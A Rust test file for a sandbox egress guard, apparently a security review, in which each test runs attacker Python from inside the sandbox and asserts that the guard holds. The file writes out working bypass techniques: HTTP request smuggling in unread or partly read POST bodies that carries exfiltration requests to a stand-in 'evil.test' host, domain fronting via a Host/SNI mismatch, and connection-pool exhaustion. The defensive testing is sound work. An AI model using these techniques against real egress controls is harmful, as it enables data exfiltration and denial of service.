//! A sixth attack review, run as the process inside the sandbox: each test performs one
//! attack from a sandbox (uid 65534, arbitrary Python) against the real agent, real
//! kernel and real upstreams on the test namespace's `lo`, and asserts the secure
//! outcome. A test marked `#[ignore = "open: …"]` is a break found and not yet fixed:
//! it fails against the current agent.
//!
//! Angle: the egress guard's judgement of what a *server* will take for a request,
//! where that differs from what the guard judged: a request body the server leaves
//! unread (so it reads the body as the next request), and the `Host` inside a TLS
//! connection the guard passed by its SNI.
//!
//! The world: 203.0.113.10 serves `allowed.test`, `write.test` and `evil.test` (one
//! address, many names, as a CDN or a shared nginx does), plain HTTP on 80 and TLS on
//! 443, each request routed by its `Host` header and logged with it ([`SHARED_PY`]).
//! The policy `web` allows `allowed.test` and `write.test`, and writes to `write.test`
//! only; `evil.test` is the attacker's.

use std::{
    fs,
    path::{Path, PathBuf},
    thread,
};

use hb_tests::{
    TestEnv, python,
    upstream::{Dnsmasq, TestCa},
    worlds::{
        RecordingPython, SHARED_HTTP_PRELUDE, attack_as, names_on_lo, nameserver_sandbox,
        reached_evil, resolver_config, started_agent, writes_elsewhere,
    },
};
use serde_json::Value;

const DNS_PORT: u16 = 5460;
const SHARED: &str = "203.0.113.10";
/// `other.test`, the neighbour policy's host.
const NEIGHBOUR: &str = "203.0.113.11";

/// The servers of the shared address, written as small services are (Python's
/// `http.server`, HTTP/1.1 keep-alive). Every request is routed by its `Host` (nginx
/// chooses its `server` block that way, also over TLS, whatever the SNI) and logged as
/// one JSON line (`port`, `vhost`, `method`, `path`, `sni`). `POST /auth…` is refused
/// (401) before its body is read, as a handler that checks credentials first does; the
/// body stays on the connection. Other writes read their body (`Content-Length` or
/// chunked; its SHA-256 logged as `body`, the connection's port as `peer`); HEAD is answered as GET is, without the body;
/// `GET /chunked…` is answered with a chunked body of 512 KiB; `POST /ignore-close…`
/// keeps the connection whatever the request's `Connection` says.
const SHARED_PY: &str = r#"
import hashlib, http.server, json, ssl, sys, threading
addr, log, cert, key = sys.argv[1:5]
lock = threading.Lock()
def record(rec):
    with lock:
        with open(log, "a") as f:
            f.write(json.dumps(rec) + "\n")
def norm(host):
    return (host or "").strip().lower().rsplit(":", 1)[0].rstrip(".")
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def log_message(self, *a): pass
    def reply(self, code, read_body):
        body = b""
        if read_body and (self.headers.get("transfer-encoding") or "").lower() == "chunked":
            while True:
                n = int(self.rfile.readline().split(b";")[0], 16)
                body += self.rfile.read(n)
                self.rfile.readline()
                if n == 0:
                    break
        elif read_body:
            body = self.rfile.read(int(self.headers.get("content-length") or 0))
        record({"port": self.server.server_address[1], "vhost": norm(self.headers.get("host")),
                "method": self.command, "path": self.path, "sni": getattr(self.request, "hb_sni", None),
                "body": hashlib.sha256(body).hexdigest(), "peer": self.client_address[1]})
        out = ("%s %s %s\n" % (norm(self.headers.get("host")), self.command, self.path)).encode()
        self.send_response(code)
        self.send_header("Content-Length", str(len(out)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(out)
    def do_GET(self):
        if self.path.startswith("/chunked"):
            # A chunked answer: 8 chunks of 64 KiB.
            record({"vhost": norm(self.headers.get("host")), "method": "GET", "path": self.path,
                    "peer": self.client_address[1]})
            self.send_response(200)
            self.send_header("Transfer-Encoding", "chunked")
            self.end_headers()
            for i in range(8):
                self.wfile.write(b"10000\r\n" + bytes([65 + i]) * 65536 + b"\r\n")
            self.wfile.write(b"0\r\n\r\n")
            return
        self.reply(200, False)
    do_HEAD = do_GET
    def do_POST(self):
        if self.path.startswith("/auth"):
            return self.reply(401, False)
        if self.path.startswith("/ignore-close"):
            # A server that keeps the connection whatever the request's `Connection` says.
            self.reply(200, True)
            self.close_connection = False
            return
        if self.path.startswith("/capped"):
            # A handler that reads at most 64 bytes of a body (and answers 413 past
            # that, keeping the connection): the rest stays on the connection.
            self.rfile.read(min(64, int(self.headers.get("content-length") or 0)))
            return self.reply(413, False)
        self.reply(200, True)
    do_PUT = do_PATCH = do_DELETE = do_POST
class Tls(H):
    def setup(self):
        self.request.do_handshake()
        super().setup()
class S(http.server.ThreadingHTTPServer):
    daemon_threads = True
    allow_reuse_address = True
    def handle_error(self, request, client_address): pass
plain = S((addr, 80), H)
tls = S((addr, 443), Tls)
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain(cert, key)
def sni(sock, name, c):
    sock.hb_sni = name
ctx.sni_callback = sni
tls.socket = ctx.wrap_socket(tls.socket, server_side=True, do_handshake_on_connect=False)
for s in (plain, tls):
    threading.Thread(target=s.serve_forever, daemon=True).start()
print("ready", flush=True)
threading.Event().wait()
"#;

/// The servers of `addr` ([`SHARED_PY`]), with a certificate for every test name from a
/// CA of their own, logging to a file in `dir`.
fn shared_servers(dir: &Path, addr: &str) -> RecordingPython {
    let ca = TestCa::new(dir, &format!("review6-{addr}"));
    let leaf = ca.issue(
        &format!("shared-{addr}"),
        &["allowed.test", "write.test", "evil.test", "other.test"],
    );
    RecordingPython::start(
        SHARED_PY,
        addr,
        &dir.join(format!("shared-{addr}.jsonl")),
        &[&leaf.cert, &leaf.key],
    )
}

struct World {
    env: TestEnv,
    shared: RecordingPython,
    neighbour: RecordingPython,
    _dns: Dnsmasq,
    dir: PathBuf,
}

impl World {
    fn new(name: &str) -> Self {
        let dns = names_on_lo(
            &[SHARED, NEIGHBOUR, "192.0.2.53"],
            DNS_PORT,
            &[
                ("allowed.test", &[SHARED]),
                ("write.test", &[SHARED]),
                ("evil.test", &[SHARED]),
                ("other.test", &[NEIGHBOUR]),
            ],
            60,
        );
        let dir =
            std::env::temp_dir().join(format!("hb-review6-{name}-{}", hb_tests::random_suffix()));
        let shared = shared_servers(&dir, SHARED);
        let neighbour = shared_servers(&dir, NEIGHBOUR);
        let config = format!(
            r#"{resolver}
[[policy]]
name = "web"
allow_domains = ["allowed.test", "write.test"]
write_domains = ["write.test"]
guard = true
guard_ports = [80, 443]

[[policy]]
name = "other"
allow_domains = ["other.test"]
guard = true
"#,
            resolver = resolver_config(DNS_PORT, true, "", &["203.0.113.0/24"]),
        );
        let env = started_agent(name, &config);
        Self {
            env,
            shared,
            neighbour,
            _dns: dns,
            dir,
        }
    }

    /// Runs a Python script in a `web` sandbox as uid 65534, its DNS through hb's
    /// resolver (hex-encoded: no quoting to get wrong).
    fn attack(&self, body: &str) -> String {
        attack_as(&self.env, "web", &format!("{SHARED_HTTP_PRELUDE}\n{body}"))
    }
}

impl Drop for World {
    fn drop(&mut self) {
        if !thread::panicking() {
            let _ = fs::remove_dir_all(&self.dir);
        }
    }
}

/// FINDING R6-1 (fixed). A POST to `write.test` (a host the policy may write to) whose
/// body is a request for `evil.test`, on one keep-alive connection: the guard judged
/// the POST and forwarded its `Content-Length` bytes unjudged, as a body; a server that
/// answers before reading the body (here a 401 from a handler that checks credentials
/// first; the same with any early error answer that keeps the connection) reads those
/// bytes as the next request, routed to evil.test's virtual host on the same address.
/// The guard already refused a body on GET for this reason; a write host's body hid the
/// same request. The variants: the hidden request names evil.test, writes to the
/// read-only allowed.test, sits behind leading blank lines, is cut before its blank
/// line (the next request the guard judges completes it for the server), or hides in a
/// chunked body's first chunk line, or follows `Expect: 100-continue`. A plain POST to
/// write.test, a JSON body, a text body and a client that waits for `100 Continue`
/// before its body still pass.
#[test]
fn a_request_in_a_body_the_server_leaves_unread_never_reaches_another_host() {
    let w = World::new("r6body");
    let out = w.attack(
        r#"
def post(path, body, extra=b""):
    return (b"POST " + path + b" HTTP/1.1\r\nHost: write.test\r\n" + extra +
            b"Content-Length: %d\r\n\r\n" % len(body) + body)
evil = b"GET /exfil?data=s3cr3t HTTP/1.1\r\nHost: evil.test\r\n\r\n"
write = b"POST /w HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 0\r\n\r\n"
cases = {
    "control_post": post(b"/data", b'{"a": 1}'),
    "control_text": post(b"/data", b"hello world\nGET is a verb\n"),
    "control_get": b"GET /read HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
    "evil": post(b"/auth1", evil),
    "write": post(b"/auth2", write),
    "blank_lines": post(b"/auth3", b"\r\n\r\n" + evil),
    "cut": post(b"/auth4", evil[:-2]) + b"\r\nGET /next HTTP/1.1\r\nHost: write.test\r\n\r\n",
    "chunk_line": b"POST /auth5 HTTP/1.1\r\nHost: write.test\r\nTransfer-Encoding: chunked\r\n\r\n"
                  b"0;GET /chunk?data=s3cr3t HTTP/1.1\r\nHost: evil.test\r\n\r\n",
}
for label, data in cases.items():
    print(label, exchange(data), flush=True)
# Expect: 100-continue, the body sent at once (the server's 100, then its 401 before
# reading the body), and a client that waits for the 100 before its body (it passes).
print("expect", exchange(post(b"/auth6", evil, b"Expect: 100-continue\r\n")), flush=True)
s = socket.create_connection((SHARED, 80), timeout=5)
body = b'{"expect": true}'
s.sendall(b"POST /data HTTP/1.1\r\nHost: write.test\r\nExpect: 100-continue\r\nContent-Length: %d\r\n\r\n" % len(body))
first = s.recv(65536)
s.sendall(body)
time.sleep(0.5)
s.shutdown(socket.SHUT_WR)
print("control_expect", statuses(first + recv_all(s)), flush=True)
s.close()
"#,
    );
    let records = w.shared.settle(|r| r["path"] == "/auth6");
    let evil = reached_evil(&records);
    let elsewhere = writes_elsewhere(&records);
    println!(
        "figure: requests at evil.test: {}, writes to a read-only host: {}",
        evil.len(),
        elsewhere.len()
    );
    for control in ["/data", "/read"] {
        assert!(
            records.iter().any(|r| r["path"] == control),
            "the control {control} arrived: {records:?}\n{out}"
        );
    }
    assert_eq!(
        records.iter().filter(|r| r["path"] == "/data").count(),
        3,
        "the three control bodies passed: {records:?}\n{out}"
    );
    assert!(
        out.contains("control_expect ['HTTP/1.1 100 Continue', 'HTTP/1.1 200 OK']"),
        "a client that waits for 100 Continue still sends its body: {out}"
    );
    assert_eq!(
        evil,
        Vec::<&Value>::new(),
        "evil.test's virtual host was reached: {out}"
    );
    assert_eq!(
        elsewhere,
        Vec::<&Value>::new(),
        "a write reached a read-only host: {out}"
    );
    let refused = w.env.wait_event("a request hidden in a body", |e| {
        e["hook"] == "guard" && e["reason"] == "ambiguous_request"
    });
    assert_eq!(refused["policy"], "web", "{refused}");
}

/// OPEN R6-2 (documented limitation, README "Over TLS the guard cannot see the method"):
/// a TLS connection whose SNI is the validated `allowed.test` carries `Host: evil.test`
/// inside; the guard never decrypts, so a server that routes by `Host` (nginx's
/// `server` blocks do, whatever the SNI, unless told otherwise; so do shared hosts and
/// CDNs that allow domain fronting; HTTP/2 coalescing sends another `:authority` the
/// same way) hands the request to evil.test's virtual host.
#[test]
#[ignore = "open: the guard passes TLS by its SNI and never sees the Host inside; closing it needs TLS interception (a CA the sandbox trusts) or a server-side SNI/Host check"]
fn a_host_inside_tls_other_than_the_sni_never_reaches_evil_test() {
    let w = World::new("r6front");
    let out = w.attack(
        r#"
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
for label, host in (("control", b"allowed.test"), ("fronted", b"evil.test")):
    try:
        with ctx.wrap_socket(socket.create_connection((SHARED, 443), timeout=5), server_hostname="allowed.test") as t:
            t.sendall(b"GET /" + label.encode() + b" HTTP/1.1\r\nHost: " + host + b"\r\nConnection: close\r\n\r\n")
            print(label, statuses(recv_all(t)), flush=True)
    except OSError as e:
        print(label, type(e).__name__, flush=True)
"#,
    );
    let records = w.shared.settle(|r| r["path"] == "/fronted");
    let evil = reached_evil(&records);
    println!(
        "figure: requests at evil.test over TLS with SNI allowed.test: {}",
        evil.len()
    );
    assert!(
        records.iter().any(|r| r["path"] == "/control"),
        "the control arrived: {records:?}\n{out}"
    );
    assert_eq!(
        evil,
        Vec::<&Value>::new(),
        "evil.test's virtual host was reached: {out}"
    );
}

/// Holds connections to the shared address through the guard: `GET /hold` on each of
/// `argv[1]` keep-alive connections, each answered before the next opens; prints `held N`
/// (the connections answered 200), then keeps them open until its stdin closes.
const HOLD_PY: &str = r#"
import socket, sys
addr = socket.getaddrinfo("allowed.test", 80, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]
held = []
for i in range(int(sys.argv[1])):
    try:
        s = socket.create_connection((addr, 80), timeout=3)
        s.sendall(b"GET /hold HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
        if s.recv(65536).startswith(b"HTTP/1.1 200"):
            held.append(s)
        else:
            s.close()
    except OSError:
        pass
print("held", len(held), flush=True)
sys.stdin.read()
"#;

/// FINDING R6-3 (fixed). The guard's connections, all policies together, are capped
/// at half the agent's open-file limit (7 descriptors each); below that cap, one pool
/// served every policy first come, first served, and a policy's own pool
/// (`max_connections_per_policy`, 1024) did not stop its sandboxes first. On a node
/// whose limit is low (here 1024, as a service without `LimitNOFILE` may get: 73
/// connections for all policies) one sandbox held every one of them with keep-alive
/// connections to its own allowed host, and every guarded connection of every other
/// policy was closed at once (`guard_busy`). With 20,000 descriptors (this machine's
/// hard limit) the cap is 1,428: a policy's sandboxes still take 1,024 of them and
/// leave a third policy 404. Each policy now gets an equal part of the cap when the cap
/// is below the policies' limits together.
#[test]
fn one_policys_sandbox_cannot_take_the_guard_connections_of_another_policy() {
    use std::io::{BufRead as _, Write as _};
    // A node agent with a small descriptor budget (inherited by the agent, which raises
    // its soft limit to this hard one). This test's process only: nextest runs each test
    // in its own.
    let lim = libc::rlimit {
        rlim_cur: 1024,
        rlim_max: 1024,
    };
    // SAFETY: setrlimit with a valid rlimit value.
    assert_eq!(
        unsafe { libc::setrlimit(libc::RLIMIT_NOFILE, &raw const lim) },
        0,
        "setrlimit"
    );
    let w = World::new("r6slots");
    let mut attacker = nameserver_sandbox(&w.env, "web", 3, &[python(), "-c", HOLD_PY, "120"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("attacker sandbox");
    let mut line = String::new();
    std::io::BufReader::new(attacker.stdout.take().expect("stdout"))
        .read_line(&mut line)
        .expect("attacker output");
    let victim = attack_as(
        &w.env,
        "other",
        r#"
import socket
addr = socket.getaddrinfo("other.test", 80, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]
try:
    s = socket.create_connection((addr, 80), timeout=5)
    s.sendall(b"GET /victim HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n")
    print("victim", (s.recv(65536).split(b"\r\n")[0] or b"closed").decode())
except OSError as e:
    print("victim", type(e).__name__)
"#,
    );
    // The attacker lets go (its stdin closes) and exits.
    if let Some(mut stdin) = attacker.stdin.take() {
        let _ = stdin.write_all(b"");
    }
    let _ = attacker.wait();
    println!(
        "figure: attacker {} connections; {}",
        line.trim(),
        victim.trim()
    );
    assert!(
        line.starts_with("held ") && line.trim() != "held 0",
        "the attacker held connections: {line}"
    );
    assert_eq!(
        victim.trim(),
        "victim HTTP/1.1 200 OK",
        "the other policy's sandbox was served while the attacker {}",
        line.trim()
    );
    assert!(
        w.neighbour.records().iter().any(|r| r["path"] == "/victim"),
        "the victim's request arrived: {:?}",
        w.neighbour.records()
    );
}

/// FINDING R6-4 (fixed; residual of R6-1): the guard looked at a body's first line
/// only. A server that reads part of a body and answers (a handler that reads at most
/// 64 bytes and answers 413 past that, keeping the connection) read the rest as the
/// next request: a 64-byte first line of padding, then a request for evil.test. A
/// request with a body now goes marked `Connection: close` (and nothing after it goes
/// on), so the server reads no further request from the connection.
#[test]
fn a_request_behind_the_part_of_a_body_a_server_reads_never_reaches_evil_test() {
    let w = World::new("r6capped");
    let out = w.attack(
        r#"
evil = b"GET /capped-exfil HTTP/1.1\r\nHost: evil.test\r\n\r\n"
body = b"x" * 62 + b"\r\n" + evil
print("capped", exchange(b"POST /capped HTTP/1.1\r\nHost: write.test\r\nContent-Length: %d\r\n\r\n" % len(body) + body), flush=True)
"#,
    );
    let records = w.shared.settle(|r| r["path"] == "/capped-exfil");
    let evil = reached_evil(&records);
    println!("figure: requests at evil.test: {}", evil.len());
    assert!(
        records.iter().any(|r| r["path"] == "/capped"),
        "the POST arrived: {records:?}\n{out}"
    );
    assert_eq!(
        evil,
        Vec::<&Value>::new(),
        "evil.test's virtual host was reached: {out}"
    );
}

/// The R6-4 fix keeps ordinary clients working: a POST ends its connection (the guard
/// marks the request and its answer `Connection: close`, and closes after the answer,
/// whether or not the server says so: python's `http.server` does not), so a client
/// that keeps connections — `http.client` and a `requests.Session` — opens a new one
/// for the GET after it and gets every answer: a chunked answer, GET, POST, GET, a HEAD
/// (no body after its `Content-Length`), a chunked upload of 256 KiB; and on a raw
/// socket a GET, a POST and a GET pipelined in one write: the first two answered in
/// order, the last never forwarded on that connection; and a server that ignores
/// `close` still sees the connection closed after its answer.
#[test]
fn a_session_with_a_post_between_gets_gets_every_answer() {
    let w = World::new("r6session");
    let out = w.attack(
        r#"
import hashlib, http.client, requests
c = http.client.HTTPConnection("write.test", 80, timeout=5)
answers = []
big = bytes(range(256)) * 1024
def pieces():
    for i in range(0, len(big), 10000):
        yield big[i:i + 10000]
print("up", hashlib.sha256(big).hexdigest(), flush=True)
for method, path, body in (("GET", "/chunked", None), ("GET", "/s1", None), ("POST", "/s2", b"a=1"),
                           ("GET", "/s3", None), ("HEAD", "/s4", None), ("GET", "/s5", None),
                           ("POST", "/s6", pieces()), ("GET", "/s7", None)):
    c.request(method, path, body=body, encode_chunked=method == "POST" and path == "/s6")
    r = c.getresponse()
    got = r.read()
    if path == "/chunked":
        text = "whole" if got == b"".join(bytes([65 + i]) * 65536 for i in range(8)) else "cut %d" % len(got)
    else:
        text = got.decode().strip()
    answers.append("%s %d %s %s" % (method, r.status, text or "-", r.getheader("connection")))
print("client", answers, flush=True)
s = requests.Session()
got = [s.get("http://write.test/r1"), s.post("http://write.test/r2", data=b"b=2"), s.get("http://write.test/r3")]
print("session", [(g.status_code, g.text.strip()) for g in got], flush=True)
p = socket.create_connection((SHARED, 80), timeout=5)
p.sendall(b"GET /p0 HTTP/1.1\r\nHost: write.test\r\n\r\n"
          b"POST /p1 HTTP/1.1\r\nHost: write.test\r\nContent-Length: 3\r\n\r\nc=3"
          b"GET /p2 HTTP/1.1\r\nHost: write.test\r\n\r\n")
raw = recv_all(p)
p.close()
# A server that ignores `Connection: close`: the guard closes after the answer.
q = socket.create_connection((SHARED, 80), timeout=5)
q.sendall(b"POST /ignore-close HTTP/1.1\r\nHost: write.test\r\nContent-Length: 3\r\n\r\nd=4")
q.settimeout(3)
got, end = b"", "open"
try:
    while True:
        d = q.recv(65536)
        if not d:
            end = "closed"
            break
        got += d
except OSError:
    pass
q.close()
print("ignored", got.split(b"\r\n")[0].decode(), end, flush=True)
# recv_all returns at the guard's close (or after 3 s without one).
print("pipelined", raw.count(b"HTTP/1.1 200 OK\r\n"), raw.count(b"Connection: close\r\n"),
      raw.endswith(b"write.test POST /p1\n"), flush=True)
"#,
    );
    assert!(
        out.contains("ignored HTTP/1.1 200 OK closed"),
        "the guard closed after the answer to a server that ignores close: {out}"
    );
    let records = w.shared.settle(|r| r["path"] == "/p1");
    let paths: Vec<&str> = records.iter().filter_map(|r| r["path"].as_str()).collect();
    println!("figure: {out}requests at the server: {paths:?}");
    assert!(
        out.contains(
            "client ['GET 200 whole None', 'GET 200 write.test GET /s1 None', \
             'POST 200 write.test POST /s2 close', 'GET 200 write.test GET /s3 None', \
             'HEAD 200 - None', 'GET 200 write.test GET /s5 None', \
             'POST 200 write.test POST /s6 close', 'GET 200 write.test GET /s7 None']"
        ),
        "http.client got every answer, the POSTs' marked close: {out}"
    );
    let up = out
        .lines()
        .find_map(|l| l.strip_prefix("up "))
        .expect("the upload's hash");
    let s6 = records
        .iter()
        .find(|r| r["path"] == "/s6")
        .expect("the chunked upload arrived");
    assert_eq!(s6["body"], up, "the chunked upload arrived whole: {s6}");
    assert!(
        out.contains(
            "session [(200, 'write.test GET /r1'), (200, 'write.test POST /r2'), (200, 'write.test GET /r3')]"
        ),
        "a requests.Session got every answer: {out}"
    );
    assert!(
        out.contains("pipelined 2 1 True"),
        "the GET and the POST behind it were answered, the connection closed after: {out}"
    );
    for path in [
        "/s1", "/s2", "/s3", "/s4", "/s5", "/r1", "/r2", "/r3", "/p0", "/p1",
    ] {
        assert_eq!(
            paths.iter().filter(|p| **p == path).count(),
            1,
            "{path} reached the server once: {paths:?}"
        );
    }
    assert!(
        !paths.contains(&"/p2"),
        "nothing after a body went on: {paths:?}"
    );
    // http.client kept its connection between GETs, and opened a new one after each POST.
    let peer = |path: &str| {
        records
            .iter()
            .find(|r| r["path"] == path)
            .map(|r| r["peer"].clone())
    };
    let connections: [&[&str]; 3] = [
        &["/chunked", "/s1", "/s2"],
        &["/s3", "/s4", "/s5", "/s6"],
        &["/s7"],
    ];
    for (i, conn) in connections.iter().enumerate() {
        for path in *conn {
            assert_eq!(
                peer(path),
                peer(conn[0]),
                "{path} came on {}'s connection: {records:?}",
                conn[0]
            );
        }
        if let Some(next) = connections.get(i + 1) {
            assert_ne!(
                peer(next[0]),
                peer(conn[0]),
                "{} came on a new connection: {records:?}",
                next[0]
            );
        }
    }
}
